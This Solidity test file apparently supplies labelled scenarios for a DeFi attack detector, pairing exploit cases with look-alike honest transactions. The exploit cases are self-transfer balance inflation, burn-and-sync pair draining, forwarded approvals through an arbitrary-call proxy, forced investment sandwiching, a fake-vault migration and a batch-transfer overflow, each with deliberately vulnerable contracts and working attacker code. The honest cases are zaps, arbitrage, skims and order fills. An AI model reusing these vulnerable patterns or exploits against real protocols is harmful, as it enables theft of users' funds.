// SPDX-License-Identifier: Apache-2.0
pragma solidity ^0.8.24;

import "./World.sol";

// Attacks by what tokens, allowances, pairs and unchecked arguments allow, and honest transactions that look like them.

/// Reads both balances before it writes either: a transfer to itself grows a balance.
contract FeeToken is Coin {
    function _move(address from, address to, uint256 amount) internal override {
        uint256 balance = balanceOf[to];
        balanceOf[from] -= amount;
        balanceOf[to] = balance + amount;
        emit Transfer(from, to, amount);
    }
}

contract SkimPair is Pair {
    constructor(Token a, Token b) Pair(a, b) {}

    function skim(address to) external {
        (uint256 a, uint256 b,) = this.getReserves();
        uint256 over0 = token0.balanceOf(address(this)) - a;
        uint256 over1 = token1.balanceOf(address(this)) - b;
        if (over0 > 0) token0.transfer(to, over0);
        if (over1 > 0) token1.transfer(to, over1);
    }
}

contract SelfTransferActor is Runner {
    using Swaps for Pair;
    Lender private lender;
    Pair private pair;

    constructor(Lender lender_, Pair pair_) {
        (lender, pair) = (lender_, pair_);
    }

    function run() external {
        flash(lender, 200 * E);
        finish();
    }

    function act() internal override {
        Token token = pair.token0();
        pair.trade(WETH, 150 * E, address(this));
        for (uint256 i = 0; i < 6; i++) token.transfer(address(this), token.balanceOf(address(this)));
        pair.trade(token, token.balanceOf(address(this)), address(this));
    }
}

contract AttackSelfTransfer is World {
    function setup(address) external payable override {
        FeeToken token = new FeeToken();
        Pair made = pair(token, 100_000 * E, 600 * E);
        runs(address(new SelfTransferActor(lender(500 * E), made)));
    }
}

/// Burns out of its pair what the caller could have burnt of its own.
contract BurningToken is Coin {
    function destroy(address of_, uint256 amount) external {
        _burn(of_, amount);
    }
}

contract BurnActor is Runner {
    using Swaps for Pair;
    Lender private lender;
    Pair private pair;

    constructor(Lender lender_, Pair pair_) {
        (lender, pair) = (lender_, pair_);
    }

    function run() external {
        flash(lender, 100 * E);
        finish();
    }

    function act() internal override {
        BurningToken token = BurningToken(address(pair.token0()));
        pair.trade(WETH, 50 * E, address(this));
        token.destroy(address(pair), token.balanceOf(address(pair)) * 99 / 100);
        pair.sync();
        pair.trade(token, token.balanceOf(address(this)), address(this));
    }
}

contract AttackBurnAndSync is World {
    function setup(address) external payable override {
        BurningToken token = new BurningToken();
        Pair made = pair(token, 100_000 * E, 600 * E);
        runs(address(new BurnActor(lender(500 * E), made)));
    }
}

/// Calls whatever its caller names, as its own.
contract Proxying {
    function forward(address target, bytes calldata payload) external {
        (bool ok,) = target.call(payload);
        require(ok);
    }
}

contract ForwardActor is Runner {
    Proxying private victim;
    Token private token;

    constructor(Proxying victim_, Token token_) {
        (victim, token) = (victim_, token_);
    }

    function run() external {
        victim.forward(address(token), abi.encodeCall(Token.approve, (address(this), type(uint256).max)));
        token.transferFrom(address(victim), tx.origin, token.balanceOf(address(victim)));
    }

    function act() internal override {}
}

contract AttackForwardedApproval is World {
    function setup(address) external payable override {
        Proxying victim = new Proxying();
        runs(address(new ForwardActor(victim, coins(address(victim), 40_000 * E))));
    }
}

/// Invests in its pair when anybody asks, at the price of the moment.
contract Farm {
    using Swaps for Pair;
    Token public asset;
    Pair public pair;

    constructor(Token asset_, Pair pair_) {
        (asset, pair) = (asset_, pair_);
    }

    function invest() external {
        pair.trade(asset, asset.balanceOf(address(this)) * 9 / 10, address(this));
    }
}

contract FarmActor is Runner {
    using Swaps for Pair;
    Lender private lender;
    Farm private farm;

    constructor(Lender lender_, Farm farm_) {
        (lender, farm) = (lender_, farm_);
    }

    function run() external {
        flash(lender, 900 * E);
        finish();
    }

    function act() internal override {
        Pair pair = farm.pair();
        Token token = pair.token0();
        pair.trade(WETH, 800 * E, address(this));
        farm.invest();
        pair.trade(token, token.balanceOf(address(this)), address(this));
    }
}

contract AttackForcedInvestment is World {
    function setup(address) external payable override {
        Coin token = new Coin();
        Pair made = pair(token, 100_000 * E, 1_000 * E);
        Farm farm = new Farm(WETH, made);
        weth(700 * E);
        WETH.transfer(address(farm), 700 * E);
        runs(address(new FarmActor(lender(1_000 * E), farm)));
    }
}

/// Takes shares of whatever it is told was the old vault.
contract Successor is Token {
    Token public asset;

    constructor(Token asset_) {
        asset = asset_;
    }

    function migrateFrom(address old, uint256 amount) external {
        Old(old).migrateWithdraw(msg.sender, amount);
        _mint(msg.sender, amount);
    }

    function withdraw(uint256 amount) external {
        _burn(msg.sender, amount);
        asset.transfer(msg.sender, amount);
    }
}

interface Old {
    function migrateWithdraw(address who, uint256 amount) external;
}

contract PosingActor is Runner, Old {
    Successor private vault;

    constructor(Successor vault_) {
        vault = vault_;
    }

    function run() external {
        uint256 all = vault.asset().balanceOf(address(vault));
        vault.migrateFrom(address(this), all);
        vault.withdraw(all);
        Token asset = vault.asset();
        asset.transfer(tx.origin, asset.balanceOf(address(this)));
    }

    function migrateWithdraw(address, uint256) external {}

    function act() internal override {}
}

contract AttackPosingVault is World {
    function setup(address) external payable override {
        Coin asset = new Coin();
        Successor vault = new Successor(asset);
        asset.mint(address(vault), 90_000 * E);
        runs(address(new PosingActor(vault)));
    }
}

/// Adds up what it pays without a look at what that comes to.
contract BatchToken is Token {
    function batchTransfer(address[] calldata receivers, uint256 value) external {
        unchecked {
            uint256 sum = receivers.length * value;
            require(balanceOf[msg.sender] >= sum);
            balanceOf[msg.sender] -= sum;
            for (uint256 i = 0; i < receivers.length; i++) {
                balanceOf[receivers[i]] += value;
                emit Transfer(msg.sender, receivers[i], value);
            }
        }
    }
}

contract AttackBatchOverflow is World {
    function setup(address sender) external payable override {
        address[] memory receivers = new address[](2);
        (receivers[0], receivers[1]) = (sender, address(0xBEEF));
        (to, data) = (address(new BatchToken()), abi.encodeCall(BatchToken.batchTransfer, (receivers, 1 << 255)));
    }
}

/// A zap: buys half, gives both to a pair, hands on the shares, all by allowances that it gives in passing.
contract Zap {
    using Swaps for Pair;
    Wrapped private constant WETH = Wrapped(0xC02aaA39b223FE8D0A0e5C4F27eAD9083C756Cc2);

    function zap(Router router, Pair pair) external payable {
        WETH.deposit{value: msg.value}();
        WETH.approve(address(router), type(uint256).max);
        Token token = pair.token0();
        Token[] memory path = new Token[](2);
        (path[0], path[1]) = (WETH, token);
        router.swapExactTokensForTokens(msg.value / 2, 0, path, address(this), block.timestamp);
        token.approve(address(router), type(uint256).max);
        token.transfer(address(pair), token.balanceOf(address(this)));
        WETH.transfer(address(pair), WETH.balanceOf(address(this)));
        pair.mint(msg.sender);
    }
}

contract HonestZap is World {
    function setup(address) external payable override {
        Coin token = new Coin();
        Pair made = pair(token, 100_000 * E, 1_000 * E);
        Router router = new Router();
        router.list(made);
        (to, data, coin) = (address(new Zap()), abi.encodeCall(Zap.zap, (router, made)), 20 * E);
    }
}

/// Arbitrage over pairs and a router, with allowances given in passing as a bot that was just deployed has to.
contract RouterBot is Runner {
    using Swaps for Pair;
    Lender private lender;
    Router private router;
    Pair private pair;

    constructor(Lender lender_, Router router_, Pair pair_) {
        (lender, router, pair) = (lender_, router_, pair_);
    }

    function run() external {
        flash(lender, 50 * E);
        finish();
    }

    function act() internal override {
        Token token = pair.token0();
        WETH.approve(address(router), type(uint256).max);
        Token[] memory path = new Token[](2);
        (path[0], path[1]) = (WETH, token);
        router.swapExactTokensForTokens(50 * E, 0, path, address(this), block.timestamp);
        pair.trade(token, token.balanceOf(address(this)), address(this));
    }
}

contract HonestRouterArbitrage is World {
    function setup(address) external payable override {
        Coin token = new Coin();
        Pair cheap = pair(token, 100_000 * E, 1_000 * E);
        Pair dear = pair(token, 100_000 * E, 1_300 * E);
        Router router = new Router();
        router.list(cheap);
        runs(address(new RouterBot(lender(500 * E), router, dear)));
    }
}

/// Five pairs in a ring by a large loan, the longest of honest arbitrage.
contract RingBot is Runner {
    using Swaps for Pair;
    Lender private lender;
    Pair[] private pairs;
    uint256 private rounds;

    constructor(Lender lender_, Pair[] memory pairs_, uint256 rounds_) {
        (lender, pairs, rounds) = (lender_, pairs_, rounds_);
    }

    function run() external {
        flash(lender, 700 * E);
        finish();
    }

    function act() internal override {
        for (uint256 round = 0; round < rounds; round++) {
            Token from = WETH;
            for (uint256 i = 0; i < pairs.length; i++) {
                Token next = from == pairs[i].token0() ? pairs[i].token1() : pairs[i].token0();
                pairs[i].trade(from, from == WETH ? 25 * E : from.balanceOf(address(this)), address(this));
                from = next;
            }
        }
    }
}

contract HonestRingArbitrage is World {
    function setup(address) external payable override {
        Coin[] memory coins_ = new Coin[](4);
        for (uint256 i = 0; i < 4; i++) coins_[i] = new Coin();
        Pair[] memory pairs = new Pair[](5);
        pairs[0] = pair(coins_[0], 100_000 * E, 2_000 * E);
        for (uint256 i = 0; i < 3; i++) pairs[i + 1] = pair2(coins_[i], 200_000 * E, coins_[i + 1], 220_000 * E);
        pairs[4] = pair(coins_[3], 100_000 * E, 2_000 * E);
        runs(address(new RingBot(lender(1_000 * E), pairs, 3)));
    }
}

contract SkimBot is Runner {
    function run(SkimPair pair) external {
        pair.skim(address(this));
        finish();
    }

    function act() internal override {}
}

/// Somebody sent coins to a pair by mistake; a bot picks them up.
contract HonestSkim is World {
    function setup(address) external payable override {
        Coin token = new Coin();
        SkimPair made = SkimPair(address(pool(new SkimPair(token, WETH), token, 100_000 * E, 1_000 * E)));
        weth(2 * E);
        WETH.transfer(address(made), 2 * E);
        (to, data) = (address(new SkimBot()), abi.encodeCall(SkimBot.run, (made)));
    }
}

/// Fills an order and is called by the settlement for its side of it.
interface Filler {
    function fillOrder(Token give, uint256 amount) external;
}

contract Settlement {
    function settle(Token take, uint256 taken, Token give, uint256 given, address maker) external {
        take.transferFrom(maker, msg.sender, taken);
        Filler(msg.sender).fillOrder(give, given);
        give.transferFrom(msg.sender, maker, given);
    }
}

contract FillBot is Runner, Filler {
    using Swaps for Pair;
    Pair private pair;
    address private maker;
    Settlement private settlement;

    constructor(Pair pair_, Settlement settlement_, address maker_) {
        (pair, settlement, maker) = (pair_, settlement_, maker_);
    }

    function run() external {
        settlement.settle(pair.token0(), 4_000 * E, WETH, 30 * E, maker);
        finish();
    }

    function fillOrder(Token give, uint256 amount) external {
        Token token = pair.token0();
        pair.trade(token, token.balanceOf(address(this)), address(this));
        give.approve(msg.sender, amount);
    }

    function act() internal override {}
}

contract Approver2 {
    function approve(Token token, address spender) external {
        token.approve(spender, type(uint256).max);
    }
}

contract HonestOrderFill is World {
    function setup(address) external payable override {
        Coin token = new Coin();
        Pair made = pair(token, 100_000 * E, 1_000 * E);
        Settlement settlement = new Settlement();
        Approver2 maker = new Approver2();
        token.mint(address(maker), 4_000 * E);
        maker.approve(token, address(settlement));
        runs(address(new FillBot(made, settlement, address(maker))));
    }
}

/// A keeper makes a farm invest, and is paid a little for it.
contract HonestKeeper is World {
    function setup(address) external payable override {
        Coin token = new Coin();
        Pair made = pair(token, 100_000 * E, 1_000 * E);
        Farm farm = new Farm(WETH, made);
        weth(7 * E);
        WETH.transfer(address(farm), 7 * E);
        (to, data) = (address(farm), abi.encodeCall(Farm.invest, ()));
    }
}
